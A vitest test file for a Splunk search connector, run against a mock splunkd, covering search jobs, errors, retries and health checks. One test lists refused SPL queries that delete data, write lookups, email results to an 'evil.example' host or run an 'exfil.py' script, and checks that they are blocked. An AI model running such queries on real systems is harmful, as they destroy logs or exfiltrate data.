/**
 * The Splunk connector against a splunkd mock over real HTTP: run_search as a form-encoded
 * blocking job whose sid is captured for the results request, the time range and count
 * reaching Splunk, SPL that would write or send data refused before anything is sent, a
 * search that does not parse, an unknown sid, a wrong token, a 429 with Retry-After, a full
 * search quota (503, retried) and the server info health action.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { fillUrl } from '../../src/connectors/request';
import { checkAnswer } from '../../src/connectors/schemas';
import { failure, testClient, type TestClient } from '../../test/connectors/support';
import { splunk } from './definition';
import { SPLUNK_TOKEN, startSplunkMock, type SplunkMock } from './mock';

let mock: SplunkMock;
let t: TestClient;
beforeAll(async () => {
  mock = await startSplunkMock();
});
beforeEach(() => {
  t = testClient();
  mock.calls.length = 0;
  // A test that ran out of attempts leaves 429s queued; each test starts without.
  mock.rateLimitNext(0);
  mock.jobs.clear();
  mock.options.reapJobs = false;
  mock.quotaFullNext(0);
});
afterEach(() => t.http.close());
afterAll(() => mock.close());

const run = (action: string, params: Record<string, unknown>, credential = SPLUNK_TOKEN) =>
  t.client.execute({
    definition: splunk,
    action,
    params,
    credential,
    settings: { host: 'splunk.acme.internal', port: '8089' },
    baseUrl: mock.baseUrl,
  });
const seen = () => mock.calls.map((c) => `${c.method} ${c.path}${c.query.size ? `?${c.query.toString()}` : ''}`);
const form = (i = 0) => Object.fromEntries(new URLSearchParams(mock.calls[i]?.body ?? ''));
const FAILED_LOGINS = 'search index=auth action=failure';

describe('Splunk run_search', () => {
  it('when a search is run then a blocking job is posted as a form, its sid captured and its results read as JSON', async () => {
    const result = await run('run_search', { query: FAILED_LOGINS });

    const [sid] = [...mock.jobs.keys()];
    expect(seen()).toEqual([
      'POST /services/search/jobs',
      `GET /services/search/jobs/${sid}/results?output_mode=json&count=100`,
    ]);
    expect(mock.calls[0]?.headers['content-type']).toBe('application/x-www-form-urlencoded');
    expect(form()).toEqual({
      search: FAILED_LOGINS,
      exec_mode: 'blocking',
      earliest_time: '-24h',
      latest_time: 'now',
      output_mode: 'json',
    });
    expect(mock.calls.map((c) => c.headers.authorization)).toEqual([
      `Bearer ${SPLUNK_TOKEN}`,
      `Bearer ${SPLUNK_TOKEN}`,
    ]);
    expect(result.status).toBe(200);
    expect(result.output).toMatchObject({
      preview: false,
      fields: [
        { name: '_time' },
        { name: 'index' },
        { name: 'sourcetype' },
        { name: 'src_ip' },
        { name: 'user' },
        { name: 'action' },
      ],
      results: [
        { src_ip: '203.0.113.66', user: 'j.doe', action: 'failure' },
        { src_ip: '203.0.113.66', user: 'j.doe', action: 'failure' },
        { src_ip: '198.51.100.23', user: 'a.vance', action: 'failure' },
      ],
    });
    const schema = splunk.actions['run_search']?.response ?? {};
    expect(checkAnswer(schema, result.output)).toEqual({ ok: true, value: result.output });
  });

  it('when a time range and a count are given then the job gets the range and the results request the count', async () => {
    const result = await run('run_search', {
      query: 'search index=auth | stats count by src_ip',
      earliest: '-7d@d',
      latest: '1733436000',
      count: 1,
    });

    expect(form()).toMatchObject({ earliest_time: '-7d@d', latest_time: '1733436000' });
    expect(mock.calls[1]?.query.get('count')).toBe('1');
    expect(result.output).toMatchObject({ fields: [{ name: 'src_ip' }, { name: 'count' }] });
    expect((result.output as { results: unknown[] }).results).toEqual([{ src_ip: '203.0.113.66', count: '3' }]);
  });

  it.each([
    'search index=auth | delete',
    'search index=auth | OutputLookup bad_ips.csv',
    'search index=auth [| sendemail to=x@evil.example]',
    '| script python exfil.py',
    'index=auth action=failure',
  ])('when the search is %j then it is refused before anything is sent', async (query) => {
    const e = await failure(run('run_search', { query }));

    expect(e).toMatchObject({ kind: 'invalid_params', message: expect.stringContaining('query') });
    expect(mock.calls).toHaveLength(0);
  });

  it('when the search does not parse then the FATAL message is an http error and no results are asked for', async () => {
    const e = await failure(run('run_search', { query: 'search index=auth | nonsense(' }));

    expect(e).toMatchObject({ kind: 'http', status: 400, retryable: false });
    expect(e.message).toContain('Unable to parse the search');
    expect(seen()).toEqual(['POST /services/search/jobs']);
  });

  it("when the job's results are gone then the error is not_found with Unknown sid", async () => {
    mock.options.reapJobs = true;

    const e = await failure(run('run_search', { query: FAILED_LOGINS }));

    expect(e).toMatchObject({ kind: 'not_found', status: 404 });
    expect(e.message).toContain('Unknown sid.');
    expect(mock.calls).toHaveLength(2);
  });
});

describe('Splunk credentials and limits', () => {
  it('when the token is wrong then the error is auth without the token and no job is made', async () => {
    const wrong = 'eyJraWQiOiJ3cm9uZyJ9.wrong-token-wrong-token';
    const e = await failure(run('run_search', { query: FAILED_LOGINS }, wrong));

    expect(e).toMatchObject({ kind: 'auth', status: 401, retryable: false });
    expect(e.message).toContain('call not properly authenticated');
    expect(JSON.stringify([e.message, e])).not.toContain(wrong);
    expect(mock.jobs.size).toBe(0);
  });

  it('when Splunk answers 429 then the client waits Retry-After and the search runs', async () => {
    mock.rateLimitNext(1, 2);

    const result = await run('run_search', { query: FAILED_LOGINS });

    expect(t.waits).toEqual([2_000]);
    expect(seen().slice(0, 2)).toEqual(['POST /services/search/jobs', 'POST /services/search/jobs']);
    expect(mock.jobs.size).toBe(1);
    expect((result.output as { results: unknown[] }).results).toHaveLength(3);
  });

  it("when the role's search quota is full (503) then the job is posted again after the backoff and runs", async () => {
    mock.quotaFullNext(1);

    const result = await run('run_search', { query: FAILED_LOGINS });

    expect(t.waits).toEqual([500]);
    expect(mock.calls).toHaveLength(3);
    expect(result.status).toBe(200);
  });

  it('when the quota stays full then the call fails as http 503 with the quota message after 3 attempts', async () => {
    mock.quotaFullNext(5);

    const e = await failure(run('run_search', { query: FAILED_LOGINS }));

    expect(e).toMatchObject({ kind: 'http', status: 503, retryable: true });
    expect(e.message).toContain('role quota has been reached');
    expect(t.waits).toEqual([500, 1_000]);
  });

  it('when the host and port settings are filled in then requests go to that management port', () => {
    expect(fillUrl(splunk.baseUrl, { host: 'acme.splunkcloud.com', port: '8089' })).toBe(
      'https://acme.splunkcloud.com:8089',
    );
  });
});

describe('Splunk health', () => {
  it('when the connection is tested then server info comes back as JSON', async () => {
    const health = splunk.healthAction;
    const result = await run(health?.action ?? '', health?.params ?? {});

    expect(seen()).toEqual(['GET /services/server/info?output_mode=json']);
    expect(result.output).toMatchObject({ entry: [{ name: 'server-info', content: { version: '9.2.1' } }] });
  });

  it.each(Object.keys(splunk.actions))(
    'when %s answers then the answer and the example both match its response schema',
    async (id) => {
      const action = splunk.actions[id];
      const result = await run(id, id === 'run_search' ? { query: 'search index=web' } : {});

      expect(checkAnswer(action?.response ?? {}, result.output)).toEqual({ ok: true, value: result.output });
      expect(checkAnswer(action?.response ?? {}, action?.example)).toEqual({ ok: true, value: action?.example });
    },
  );
});
